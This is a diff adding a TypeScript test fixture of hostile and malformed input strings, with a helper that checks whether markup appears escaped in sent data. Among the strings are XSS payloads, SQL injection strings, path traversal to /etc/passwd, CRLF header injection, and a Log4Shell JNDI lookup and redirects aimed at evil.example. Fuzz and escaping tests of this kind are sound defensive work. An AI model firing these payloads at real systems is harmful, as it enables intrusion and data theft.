@@ -1,0 +1,102 @@
+/** Texts that carry markup: wherever a page repeats one, it must be escaped. */
+export const MARKUP: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '<!--<script>',
+  '" autofocus onfocus="alert(1)',
+  "' onmouseover='alert(1)",
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{display:none}</style>',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<form action="//evil.example">',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  ']]><x>',
+  '{{7*7}}<b>',
+  '&lt;b&gt;<i>',
+]
+
+/** Texts that break what trusts them. */
+export const TEXTS: readonly string[] = [
+  ...MARKUP,
+  '',
+  ' ',
+  'x'.repeat(10_000),
+  '💣'.repeat(2000),
+  'a\u0000b',
+  '\u0000',
+  'a\u0007\u001b[31mb',
+  'a\u0085\u2028\u2029b',
+  'a\u202eb\u202c',
+  '\u2066\u2067\u2069',
+  'a\u200b\u200c\u200d\u2060b',
+  '\ufeffa',
+  '\ufffd',
+  '\uffff',
+  '\ud800',
+  'a\udc00b',
+  'Z\u0351\u036b\u0343\u036a\u0302\u036b'.repeat(40),
+  'ﷺ'.repeat(200),
+  "'; DROP TABLE quotes; --",
+  "' OR '1'='1",
+  '1) UNION SELECT key FROM sender_keys --',
+  '\\',
+  '%00',
+  '%27%20OR%201=1',
+  '%s%n%d',
+  '$' + '{jndi:ldap://evil.example/a}',
+  '../../../../etc/passwd',
+  '..\\..\\windows',
+  'file:///etc/passwd',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '//evil.example',
+  'https://user:word@evil.example/',
+  'a\r\nSet-Cookie: x=1',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  'prototype',
+  'null',
+  'undefined',
+  'true',
+  'NaN',
+  'Infinity',
+  '-1',
+  '-0',
+  '0',
+  '1e309',
+  '1e-9',
+  '0.1.2',
+  '390.999999999999999999',
+  '99999999999999999999',
+  '€390',
+  '¥390',
+  'CA$390',
+  '2026-02-30',
+  '2026-13-01',
+  '0001-01-01',
+  '9999-12-31',
+  '2026-11-23',
+  '-2026-11-22',
+  'US-XX',
+  'us-ok',
+  'US-west-south-central',
+  'US-unstated',
+  '4-key',
+]
+
+function decoded(sent: string): string {
+  try {
+    return decodeURIComponent(sent.replaceAll('+', ' '))
+  } catch {
+    return sent
+  }
+}
+
+/** The markup in what was sent, as text or percent-encoded. */
+export const markupIn = (sent: string): string[] =>
+  MARKUP.filter((markup) => sent.includes(markup) || decoded(sent).includes(markup))
